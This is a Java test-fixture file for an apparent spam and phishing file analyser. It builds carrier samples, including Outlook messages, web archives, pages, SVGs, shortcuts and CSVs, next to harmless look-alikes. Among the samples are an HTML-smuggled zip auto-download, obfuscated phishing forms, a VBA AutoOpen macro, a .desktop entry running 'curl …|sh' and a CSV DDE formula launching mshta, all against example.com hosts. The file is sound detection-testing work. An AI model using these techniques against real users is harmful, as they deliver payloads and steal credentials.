package org.spampot.analysis.file;

import static org.spampot.analysis.file.ZipMaker.bytes;
import static org.spampot.analysis.file.ZipMaker.join;
import static org.spampot.analysis.file.ZipMaker.u32;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.spampot.analysis.file.DocumentCases.Case;
import org.spampot.model.Bytes;

/// Files that carry others, and lead elsewhere: saved messages, pages that build files, shortcuts, tables; beside each
/// trick the honest thing that looks like it.
final class CarrierCases {
    private static final String MSG = "application/vnd.ms-outlook";
    private static final String S = "__substg1.0_";
    private static final byte[] ZIP = new ZipMaker().entry("readme.txt", ArchiveCases.README).done();

    private final List<Case> cases = new ArrayList<>();

    static List<Case> all() {
        var all = new CarrierCases();
        all.outlook();
        all.webArchives();
        all.pages();
        all.honestPages();
        all.drawings();
        all.shortcuts();
        all.tables();
        return all.cases;
    }

    private void add(String name, String file, byte[] content, String type, String flags, String urls, String entries,
            String... words) {
        cases.add(new Case(name, file, Bytes.own(content), type, list(flags), list(urls), list(entries),
                List.of(words)));
    }

    private static List<String> list(String text) {
        return text.isEmpty() ? List.of() : List.of(text.split(" ", -1));
    }

    private static CompoundMaker message() {
        return new CompoundMaker().stream("__properties_version1.0", new byte[32]);
    }

    private static byte[] wide(String text) {
        return text.getBytes(StandardCharsets.UTF_16LE);
    }

    private void outlook() {
        add("msg with html", "a.msg", message().stream(S + "10130102",
                bytes("<html><body><a href=\"http://msghtml.example.com/\">pay</a></body></html>")).done(), MSG, "", "",
                "", "http://msghtml.example.com/");
        add("msg with html in two bytes", "a.msg", message().stream(S + "1013001F",
                wide("<p><a href='http://msgwide.example.com/'>x</a>")).done(), MSG, "", "", "",
                "http://msgwide.example.com/");
        add("msg with header and recipient", "a.msg", message().stream(S + "007D001E",
                bytes("Received: from x (192.0.2.7)\r\nReply-To: fraud@example.net\r\n"))
                .stream(S + "0E04001F", wide("victim@example.com")).done(), MSG, "", "", "", "fraud@example.net",
                "victim@example.com");
        String rtf = "{\\rtf1\\ansi\\fromhtml1{\\*\\htmltag64 <a href=\"http://fromrtf.example.com/\">}\\htmlrtf {\\field"
                + "{HYPERLINK}\\htmlrtf0 click\\htmlrtf }\\htmlrtf0{\\*\\htmltag72 </a>}}";
        byte[] stored = join(u32(rtf.length() + 12), u32(rtf.length()), bytes("MELA"), u32(0), bytes(rtf));
        add("msg with html in rtf", "a.msg", message().stream(S + "10090102", stored).done(), MSG, "", "", "",
                "<a href=\"http://fromrtf.example.com/\">click</a>");
        String inner = "__attach_version1.0_#00000000/" + S + "3701000D/";
        add("msg in msg", "a.msg", message().stream("__attach_version1.0_#00000000/" + S + "3001001F", wide("Fwd"))
                .stream(inner + "__properties_version1.0", new byte[24])
                .stream(inner + S + "0037001F", wide("Urgent"))
                .stream(inner + S + "1000001F", wide("see http://inner.example.com/"))
                .stream(inner + "__attach_version1.0_#00000000/" + S + "3707001F", wide("a.zip"))
                .stream(inner + "__attach_version1.0_#00000000/" + S + "37010102", ZIP).done(), MSG, "", "",
                "msg:Fwd msg:a.zip msg:a.zip!zip:readme.txt", "Urgent", "see http://inner.example.com/");
    }

    private void webArchives() {
        String page = "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n"
                + "Content-Location: http://saved.example.com/\r\n\r\n<a href=3D\"http://mht.exam=\r\nple.com/\">x</a>";
        add("mht of a browser", "a.mht", bytes("From: <Saved by Example>\r\nSubject: Sign in\r\n"
                + "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n" + page
                + "\r\n--b--"),
                "message/rfc822", "", "", "", "<a href=\"http://mht.example.com/\">x</a>", "Sign in");
        String mso = Base64.getMimeEncoder().encodeToString(join(bytes("ActiveMime\0\0\1\u00f0"), new byte[36],
                zlib(new CompoundMaker().stream("VBA/ThisDocument", DocumentCases.vba("Attribute VB_Name = \"A\"\r\n"
                        + "Sub AutoOpen()\r\nShell \"http://mso.example.com/\"")).done())));
        add("mht of Word with macros", "a.doc", bytes("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b"
                + "\r\n\r\n--b\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n"
                + "Content-Location: file:///C:/editdata.mso\r\n\r\n" + mso + "\r\n--b--"), "message/rfc822", "", "",
                "part:1 part:1!mso:content", "http://mso.example.com/");
        add("text that names fields", "a.txt", bytes("MIME-Version: is a field of mail.\nAnother one is To.\n"),
                "text/plain", "", "", "", "is a field of mail");
    }

    private static byte[] zlib(byte[] content) {
        var out = new java.io.ByteArrayOutputStream();
        try (var packed = new java.util.zip.DeflaterOutputStream(out)) {
            packed.write(content);
        } catch (java.io.IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    private static final String BUILDS = "script builds-file obfuscated-script carries-file";

    private static String script(String code) {
        return "<html><body><script>" + code + "</script></body></html>";
    }

    private void pages() {
        String base64 = Base64.getEncoder().encodeToString(ZIP);
        String end = "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()";
        add("page with a zip in base64", "a.html", bytes(script("var b=new Blob([atob('" + base64 + "')]);" + end)),
                "text/html", BUILDS, "", "html:invoice.zip html:invoice.zip!zip:readme.txt",
                "Visit http://files.example.com/inner");
        add("page with a zip in pieces", "a.html", bytes(script("var d='" + base64.substring(0, 40) + "' +\n '"
                + base64.substring(40, 80) + "'+\"" + base64.substring(80) + "\";" + end)), "text/html",
                "script builds-file carries-file", "", "html:invoice.zip html:invoice.zip!zip:readme.txt");
        add("page with a zip in a list", "a.html", bytes(script("var d=[\"" + base64.substring(0, 60) + "\", \""
                + base64.substring(60) + "\"].join('');" + end)), "text/html", "script builds-file carries-file", "",
                "html:invoice.zip html:invoice.zip!zip:readme.txt");
        add("page with a zip in hexadecimal", "a.html",
                bytes(script("var h=\"" + java.util.HexFormat.of().formatHex(ZIP)
                        + "\";")),
                "text/html", "script carries-file", "", "html:file1 html:file1!zip:readme.txt");
        var numbers = new StringBuilder();
        for (byte each : ZIP) {
            numbers.append(numbers.isEmpty() ? "" : ", ").append(each & 0xff);
        }
        add("page with a zip in numbers", "a.html", bytes(script("var u=new Uint8Array([" + numbers + "]);" + end)),
                "text/html", "script builds-file carries-file", "", "html:invoice.zip html:invoice.zip!zip:readme.txt");
        add("page with a zip in a link", "a.html",
                bytes("<html><a download=\"report.zip\" href=\"data:application/zip;base64,"
                        + base64 + "\">open</a>"),
                "text/html", "carries-file", "",
                "html:report.zip html:report.zip!zip:readme.txt");
        String login = Base64.getEncoder().encodeToString(bytes("<html><body><form action='http://inb64.example.com/p'>"
                + "<input type=password></form></body></html>"));
        add("page with a page in base64", "a.html", bytes(script("document.write(atob(\"" + login + "\"))")),
                "text/html",
                "script obfuscated-script carries-file", "", "html:file1", "http://inb64.example.com/p");
        add("page with a page in character codes", "a.html", bytes(script("document.write(String.fromCharCode("
                + codes("<html><body><a href='http://codes.example.com/'>x</a></body></html>") + "))")), "text/html",
                "script obfuscated-script carries-file", "", "html:file1", "http://codes.example.com/");
    }

    private static String codes(String text) {
        return String.join(",", text.chars().mapToObj(Integer::toString).toList());
    }

    private void honestPages() {
        String png = Base64.getEncoder().encodeToString(join(bytes("\u0089PNG\r\n\u001a\n"), new byte[90]));
        add("page with a picture", "a.html", bytes("<html><img src=\"data:image/png;base64," + png + "\"></html>"),
                "text/html", "", "", "");
        add("page with a long identifier", "a.html", bytes(script("var id='" + "aGVsbG8gd29ybGQg".repeat(6) + "';")),
                "text/html", "script", "", "");
        add("page with a path", "a.html", bytes(script("load('/assets/application/components/navigation/sidebar/"
                + "controllers/index')")), "text/html", "script", "", "");
        add("page with a list of numbers", "a.html", bytes(script("var data=[" + "12,250,33,17,".repeat(20) + "1]")),
                "text/html", "script", "", "");
        add("page with numbers of a chart", "a.html", bytes(script("var data=[" + "1200,2500,".repeat(40) + "1]")),
                "text/html", "script", "", "");
    }

    private void drawings() {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">";
        add("svg with a link", "a.svg",
                bytes(svg + "<a xlink:href=\"http://svglink.example.com/\"><text>Open</text></a>"
                        + "</svg>"),
                "image/svg+xml", "", "", "", "http://svglink.example.com/");
        add("svg with a script that leads away", "a.svg", bytes("<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC "
                + "\"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">" + svg
                + "<script><![CDATA[window.location='http://svgjs.example.com/']]></script></svg>"), "image/svg+xml",
                "script", "", "", "http://svgjs.example.com/");
        add("svg with a page in it", "a.svg",
                bytes(svg + "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\""
                        + " src=\"http://svgframe.example.com/\"/></foreignObject></svg>"),
                "image/svg+xml", "iframe", "", "",
                "http://svgframe.example.com/");
        add("svg that builds a file", "a.svg", bytes(svg + "<script>var b=new Blob([atob('"
                + Base64.getEncoder().encodeToString(ZIP) + "')]);URL.createObjectURL(b)</script></svg>"),
                "image/svg+xml", BUILDS, "", "html:file1 html:file1!zip:readme.txt");
    }

    private void shortcuts() {
        add("webloc", "a.webloc",
                bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>URL"
                        + "</key>\n<string>http://webloc.example.com/?a=1&amp;b=2</string></dict></plist>"),
                "application/x-mswinurl", "", "url:url=http://webloc.example.com/?a=1&b=2", "");
        add("webloc in binary", "a.webloc", join(bytes("bplist00\u00d1\1\2SURL_\20\33"),
                bytes("http://bplist.example.com/x\b\13\17")), "application/x-bplist", "", "", "",
                "http://bplist.example.com/x");
        add("desktop link", "a.desktop", bytes("[Desktop Entry]\nType=Link\nURL=http://desktop.example.com/\n"),
                "application/x-mswinurl", "runs-by-name", "url:url=http://desktop.example.com/", "");
        add("desktop program", "a.desktop", bytes("[Desktop Entry]\nType=Application\nExec=sh -c \"curl "
                + "http://exec.example.com/|sh\"\n"), "application/x-mswinurl", "runs-by-name arguments", "", "",
                "http://exec.example.com/");
    }

    private void tables() {
        add("csv that calls a program", "a.csv",
                bytes("name,sum\n=cmd|' /C mshta http://csv.example.com/'!A0,1\n"),
                "text/plain", "dde", "", "", "http://csv.example.com/");
        add("csv with bars", "a.csv", bytes("name|sum\na=b|c\nO'Neill|3\n"), "text/plain", "", "", "", "O'Neill");
        add("query for Excel", "a.iqy", bytes("WEB\n1\nhttp://iqy.example.com/x.dat\n"), "text/plain", "runs-by-name",
                "", "", "http://iqy.example.com/x.dat");
    }
}
